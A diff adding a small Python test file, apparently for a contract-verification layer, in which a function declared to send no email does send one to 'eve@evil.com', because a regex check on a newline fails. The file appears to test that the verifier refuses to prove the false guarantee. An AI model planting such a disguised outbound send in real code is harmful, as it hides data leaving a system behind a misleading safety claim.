@@ -1,0 +1,11 @@
+# not proved: but a newline it is not
+import re
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_email
+
+
+@lictor_layer.guarantee(c.none_sent())
+def main() -> None:
+    if not re.fullmatch(".", "\n"):
+        send_email("eve@evil.com", "x")
